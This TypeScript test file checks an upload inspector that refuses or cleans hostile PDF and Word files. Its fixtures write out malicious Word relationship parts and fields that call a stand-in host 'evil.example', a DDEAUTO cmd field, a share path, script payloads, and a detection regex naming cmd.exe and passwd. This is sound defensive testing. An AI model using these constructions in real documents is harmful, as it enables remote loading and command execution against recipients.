import { readFileSync } from 'node:fs';
import { PDF } from '@libpdf/core';
import { instant } from '@tabellion/kernel/date.ts';
import { writeZip } from '@tabellion/platform/files/zip.ts';
import { describe, expect, test } from 'vitest';
import { judgePdf } from '../judgePdf.ts';
import { openSeal } from '../seal/openSeal.ts';
import { aboutTest } from '../seal/testing-edit.ts';
import { testSeal } from '../verify/testing-sealed.ts';
import { verify } from '../verify/verify.ts';
import { inspectBytes } from './inspectBytes.ts';
import { uploadLimits } from './inspected.ts';
import { contentTypes, hostilePdfs, testDocx, testPdf, testPng, wordDocument } from './testing-files.ts';

async function inspected(bytes: Uint8Array) {
  const found = await inspectBytes(bytes, uploadLimits);
  if (!found.ok) throw new Error(found.error.textCode);
  return found.value;
}

async function codeOf(bytes: Uint8Array): Promise<string> {
  const found = await inspectBytes(bytes, uploadLimits);
  return found.ok ? `is ${found.value.type}` : found.error.textCode;
}

const unsigned = { isSigned: false, active: [] };

describe('a file is what it holds, not what it is called', () => {
  test('a PDF, with its pages and its words', async () => {
    expect(await inspected(testPdf({ pages: ['Minutes of the meeting', 'Resolved'] }))).toEqual({
      type: 'pdf',
      mime: 'application/pdf',
      pages: 2,
      ...unsigned,
      takesSeal: true,
      text: 'Minutes of the meeting\nResolved',
    });
  });

  test('a Word document, with its words', async () => {
    const body =
      '<w:p><w:r><w:t>Ömer &amp; </w:t></w:r><w:r><w:t xml:space="preserve">sons</w:t></w:r></w:p>' +
      '<w:p><w:r><w:delText>gone</w:delText><w:t>شركة</w:t></w:r></w:p>';
    const found = await inspected(await testDocx({ 'word/document.xml': wordDocument(body) }));
    expect(found).toMatchObject({ type: 'docx', text: 'Ömer & sons\nشركة', ...unsigned });
  });

  test('no words hold what a database does not store', async () => {
    const body = '<w:p><w:t>Min\0ut\x07es</w:t></w:p>';
    const found = await inspected(await testDocx({ 'word/document.xml': wordDocument(body) }));
    expect(found.text).toBe('Minutes');
    expect((await inspected(testPdf({ pages: ['Min\\000utes'] }))).text).not.toContain('\0');
  });

  test('a picture', async () => {
    expect(await inspected(testPng(640, 480))).toEqual({
      type: 'png',
      mime: 'image/png',
      text: '',
      ...unsigned,
      takesSeal: false,
    });
  });

  test.each([
    ['a page of the web', '<!doctype html><script>alert(1)</script>'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['a program', 'MZ\x90\0\x03\0\0\0'],
    ['a film', 'GIF89a'],
    ['plain text', 'Minutes'],
  ])('%s is refused', async (_, content) => {
    expect(await codeOf(Buffer.from(content, 'latin1'))).toBe('UPLOADS.WRONG_TYPE');
  });

  test('an archive without a document is refused', async () => {
    expect(await codeOf(await writeZip(new Map([['a.txt', Buffer.from('a')]])))).toBe('UPLOADS.WRONG_TYPE');
  });
});

describe('what cannot be opened whole is refused', () => {
  test('a PDF of 5,000 pages', async () => {
    const pages = Array.from({ length: 5_000 }, (_, page) => String(page));
    expect(await codeOf(testPdf({ pages }))).toBe('UPLOADS.TOO_MANY_PAGES');
  });

  test('a PDF that asks its reader for a password, or is encrypted in a way that nobody reads', async () => {
    expect(await codeOf(arrived('user-password.pdf'))).toBe('UPLOADS.ENCRYPTED');
    const encrypt = '<< /Filter /Standard /V 1 /R 2 /P -4 /O <00> /U <00> >>';
    expect(await codeOf(testPdf({ trailer: `/ID [<00><00>] /Encrypt ${encrypt}` }))).toBe(
      'UPLOADS.ENCRYPTED',
    );
  });

  test('a PDF without pages, broken off, or with only a beginning', async () => {
    expect(await codeOf(testPdf({ pages: [] }))).toBe('UPLOADS.DAMAGED');
    expect(await codeOf(testPdf().subarray(0, 200))).toBe('UPLOADS.DAMAGED');
    expect(await codeOf(Buffer.from('%PDF-1.7\nnothing'))).toBe('UPLOADS.DAMAGED');
  });

  test('a Word document with macros, by their part or by their type', async () => {
    expect(await codeOf(await testDocx({ 'word/vbaProject.bin': 'x' }))).toBe('UPLOADS.MACROS');
    const types = contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml');
    expect(await codeOf(await testDocx({ '[Content_Types].xml': types }))).toBe('UPLOADS.MACROS');
    const spelled = types.replace('macroE', 'macro&#69;');
    expect(await codeOf(await testDocx({ '[Content_Types].xml': spelled }))).toBe('UPLOADS.MACROS');
    const renamed = relationships(
      `Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a"`,
    );
    expect(await codeOf(await testDocx({ 'word/_rels/document.xml.rels': renamed }))).toBe('UPLOADS.MACROS');
  });

  test('a Word document that is a bomb, names entities, or leads out of its archive', async () => {
    const bomb = 'a'.repeat(101 * 1024 * 1024);
    expect(await codeOf(await testDocx({ 'word/media/a.bmp': bomb }))).toBe('UPLOADS.UNPACKS_TOO_LARGE');
    const entities = `<!DOCTYPE a [<!ENTITY b "bb">]>${wordDocument('')}`;
    expect(await codeOf(await testDocx({ 'word/document.xml': entities }))).toBe('UPLOADS.DAMAGED');
    expect(await codeOf(await testDocx({ '../a': 'a' }))).toBe('UPLOADS.DAMAGED');
    expect(await codeOf(await testDocx({ 'Word/Document.xml': 'a' }))).toBe('UPLOADS.DAMAGED');
  });

  const relationships = (...attributes: readonly string[]) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${attributes
      .map((one) => `<Relationship ${one}/>`)
      .join('')}</Relationships>`;
  const typed = (type: string) =>
    `Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;
  const template = `${typed('attachedTemplate')} Target="http://evil.example/t.dotm" TargetMode="External"`;
  const [own, ofSettings] = ['word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels'];

  const hidden = (before: string) =>
    relationships(template).replace('<Relationship ', `${before}<Relationship `);
  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
  const fieldOf = (...pieces: readonly string[]) =>
    wordDocument(
      `${begin}${pieces.map((one) => `<w:r><w:instrText>${one}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    );

  test.each<[string, Record<string, string | Uint8Array>]>([
    ['a template', { [own]: relationships(template) }],
    ['a template of its settings', { [ofSettings]: relationships(template) }],
    ['a template after a link', { [own]: relationships(`${typed('hyperlink')} Target="a"`, template) }],
    ['a part beside the document', { '_rels/.rels': relationships(template) }],
    ['a part of a header', { 'word/_rels/header1.xml.RELS': relationships(template) }],
    ['a picture', { [own]: relationships(`${typed('image')} Target="a.png" TargetMode="external"`) }],
    ['a frame', { [own]: relationships(`${typed('frame')} Target='//h/a' TargetMode='External'`) }],
    [
      'an address that calls itself internal',
      { [own]: relationships(`${typed('image')} Target="file:///a"`) },
    ],
    ['a share', { [own]: relationships(`${typed('oleObject')} Target="\\\\10.0.0.1\\a"`) }],
    ['letters spelled as codes', { [own]: relationships(template.replace('External', 'Ext&#101;rnal')) }],
    ['wide blanks', { [own]: relationships(template.replaceAll('=', `${' '.repeat(99)}=`)) }],
    ['another name of its namespace', { [own]: relationships(template).replaceAll('<Rel', '<a-b:Rel') }],
    ['letters of two bytes', { [own]: Buffer.from(relationships(template), 'utf16le') }],
    ['a document type', { [own]: `<!DOCTYPE a>${relationships()}` }],
    ['a comment with a mark of quotation', { [own]: hidden('<!-- <Relationship a=" -->') }],
    ['characters with one', { [own]: hidden("<![CDATA[<Relationship a=']]>") }],
    ['an instruction with one', { [own]: hidden('<?a <Relationship a=" ?>') }],
    ['another code', { [own]: '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships/>' }],
    ['letters of four bytes', { [own]: Buffer.from(Array.from(relationships(template)).join('\0\0\0')) }],
    [
      'a page taken in',
      { [own]: relationships(`${typed('aFChunk')} Target="a.html"`), 'word/a.html': '<img>' },
    ],
    ['a field', { 'word/document.xml': fieldOf('includepicture "http://evil.example/a.png" \\d') }],
    ['a field in pieces', { 'word/footer1.xml': fieldOf('DD', 'E', 'AUTO cmd') }],
    [
      'a field in one piece',
      { 'word/document.xml': wordDocument("<w:fldSimple w:a='>' w:instr=' LINK a'/>") },
    ],
    ['a field that another one names', { 'word/document.xml': wordDocument(`${begin}${begin}`) }],
  ])('a Word document that loads %s from elsewhere', async (_, parts) => {
    expect(await codeOf(await testDocx(parts))).toBe('UPLOADS.LOADS_FROM_ELSEWHERE');
  });

  test('a Word document may hold links, and parts of its own', async () => {
    const link = `${typed('hyperlink')} Target="https://example.org/" TargetMode="External"`;
    const picture = `${typed('image')} Target="media/a.png" TargetMode="Internal"`;
    expect(await codeOf(await testDocx({ [own]: relationships(link, picture) }))).toBe('is docx');
    for (const field of ['HYPERLINK "https://example.org/link"', ' PAGE ', 'INCLUDEPICTURE "cid:a.png"'])
      expect(await codeOf(await testDocx({ 'word/document.xml': fieldOf(field) }))).toBe('is docx');
  });

  test('a Word document with a password', async () => {
    const container = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from('EncryptedPackage', 'utf16le'),
    ]);
    expect(await codeOf(container)).toBe('UPLOADS.ENCRYPTED');
  });

  test('a picture of absurd size', async () => {
    expect(await codeOf(testPng(20_001, 1))).toBe('UPLOADS.TOO_MANY_PIXELS');
    expect(await codeOf(testPng(20_000, 20_000))).toBe('UPLOADS.TOO_MANY_PIXELS');
    expect(await codeOf(testPng(0, 1))).toBe('UPLOADS.DAMAGED');
  });
});

describe('active content', () => {
  test.each(Object.entries(hostilePdfs))(
    '%s is found, and gone from the copy',
    async (_, { pdf, active }) => {
      const found = await inspected(testPdf({ ...pdf, pages: ['Minutes', 'Resolved'] }));
      expect(found).toMatchObject({ active, pages: 2, isSigned: false });
      const again = await inspected(found.cleaned ?? Buffer.alloc(0));
      expect(again).toEqual({ ...found, active: [], cleaned: undefined });
      const bytes = Buffer.from(found.cleaned ?? []).toString('latin1');
      expect(bytes).not.toMatch(/app\.alert|cmd\.exe|MZ|xdp|passwd|10\.0\.0\.1/);
    },
  );

  test('links to pages of the web and moves within the document stay', async () => {
    const link =
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>';
    const found = await inspected(
      testPdf({ root: '/OpenAction [1000 0 R /Fit]', page: '/Annots [100 0 R]', objects: [link] }),
    );
    expect(found.active).toEqual([]);
    expect(found.cleaned).toBeUndefined();
  });

  test('a signed file is never changed', async () => {
    const field = '<< /FT /Sig /T (s) /V << /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >> >>';
    const found = await inspected(
      testPdf({
        root: '/AcroForm << /Fields [100 0 R] >> /OpenAction << /S /JavaScript /JS (a) >>',
        objects: [field],
      }),
    );
    expect(found).toMatchObject({ isSigned: true, active: ['javascript'] });
    expect(found.cleaned).toBeUndefined();
  });
});

describe('what is served can be signed and sealed', () => {
  const seal = async (pdf: Uint8Array) => {
    const { key } = await testSeal();
    const sealing = openSeal({ key, now: () => instant('2025-06-01T12:00:00.000Z') });
    const sealed = await sealing.seal(pdf, aboutTest);
    return sealed.ok ? verify(new Uint8Array(sealed.value.pdf), { roots: [] }) : sealed.error;
  };

  test.each([
    ['a mark before the header', 'mark-before-header.pdf'],
    ['the head of a web page before the header', 'http-head-before.pdf'],
    ['tables that are elsewhere', 'wrong-startxref.pdf'],
  ])('a file with %s is repaired, and the copy reads to the letter', async (_, name) => {
    const bytes = arrived(name);
    expect((await judgePdf(bytes)).is).toBe('damaged');
    expect(await seal(bytes)).toBe('unsealable');
    const { cleaned = new Uint8Array(), ...found } = await inspected(bytes);
    expect(found).toMatchObject({ ...unsigned, takesSeal: true });
    expect(Buffer.from(cleaned).toString('latin1')).toMatch(/^%PDF-/);
    expect((await judgePdf(cleaned)).is).toBe('sound');
    expect(await seal(cleaned)).toMatchObject({ verdict: 'intact' });
    const again = await inspected(cleaned);
    expect(again).toEqual({ ...found, cleaned: undefined });
  });

  test.each([
    'owner-40-bit.pdf',
    'owner-128-bit.pdf',
    'owner-128-bit-aes.pdf',
    'owner-256-bit.pdf',
    'owner-password-only.pdf',
  ])('%s opens without a password: the copy restricts nothing, and says the same', async (name) => {
    const bytes = arrived(name);
    expect((await judgePdf(bytes)).is).toBe('encrypted');
    const { cleaned = new Uint8Array(), ...found } = await inspected(bytes);
    expect((await judgePdf(cleaned)).is).toBe('sound');
    const copy = await PDF.load(cleaned);
    expect([copy.isEncrypted, copy.getTitle()]).toEqual([
      false,
      name === 'owner-password-only.pdf' ? 'base.html' : 'Minutes of the first meeting',
    ]);
    expect(await seal(cleaned)).toMatchObject({ verdict: 'intact' });
    expect(await inspected(cleaned)).toEqual({ ...found, cleaned: undefined });
  });

  test('a signed file that no seal can be appended to says so, and keeps its bytes', async () => {
    const pdf = await (await testSeal()).seal(testPdf());
    expect(await inspected(pdf)).toMatchObject({ isSigned: true, takesSeal: true });
    const marked = Buffer.concat([Buffer.from('\ufeff'), pdf]);
    const found = await inspected(marked);
    expect(found).toMatchObject({ isSigned: true, takesSeal: false });
    expect(found.cleaned).toBeUndefined();
    expect(await seal(marked)).toBe('unsealable');
  });
});

/** As it came to somebody. */
const arrived = (name: string): Uint8Array =>
  readFileSync(new URL(`../../../tests/data/uploads/${name}`, import.meta.url));
